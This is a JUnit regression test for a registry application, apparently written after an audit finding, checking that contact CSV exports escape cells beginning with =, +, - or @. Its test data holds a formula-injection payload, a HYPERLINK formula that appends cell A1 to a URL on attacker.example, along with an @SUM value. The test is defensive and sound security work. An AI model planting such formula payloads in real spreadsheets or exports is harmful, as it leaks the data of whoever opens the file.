package org.un.sc1540.workflow.security;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringReader;
import org.junit.jupiter.api.Test;
import org.springframework.boot.test.web.client.TestRestTemplate;
import org.springframework.http.HttpStatus;
import org.springframework.http.ResponseEntity;
import org.un.sc1540.workflow.CommitteeTest;
import org.un.sc1540.workflow.registry.RegistryService;

/**
 * Issue 11, finding 10: the CSV exports returned cells beginning with {@code =}, {@code +},
 * {@code -}, {@code @} as they were, so that a contact imported with a formula as its name ran that
 * formula in the spreadsheet of whoever opened the export.
 */
@CommitteeTest
class CsvExportInjectionTest {

  private final TestRestTemplate http;
  private final RegistryService registry;

  CsvExportInjectionTest(TestRestTemplate http, RegistryService registry) {
    this.http = http;
    this.registry = registry;
  }

  @Test
  void formulasInContactsAreExportedAsText() {
    registry.importContacts(new StringReader("state,role,name,organization,email,valid_from\n"
        + "MNG,POC,\"=HYPERLINK(\"\"https://attacker.example/?\"\"&A1,\"\"Details\"\")\",@SUM(1+1),poc1.mng.csv@example.org,\n"
        + "MNG,POC,+33 1 43 17 53 53,-2+3,poc2.mng.csv@example.org,\n"));

    ResponseEntity<String> export = http.withBasicAuth("staff", "demo").getForEntity("/api/registry/contacts.csv",
        String.class);

    assertThat(export.getStatusCode()).isEqualTo(HttpStatus.OK);
    assertThat(export.getBody())
        .contains("MNG,POC,\"'=HYPERLINK(\"\"https://attacker.example/?\"\"&A1,\"\"Details\"\")\",'@SUM(1+1),")
        .contains("MNG,POC,'+33 1 43 17 53 53,'-2+3,poc2.mng.csv@example.org,")
        .doesNotContain(",=HYPERLINK").doesNotContain(",@SUM");
  }
}
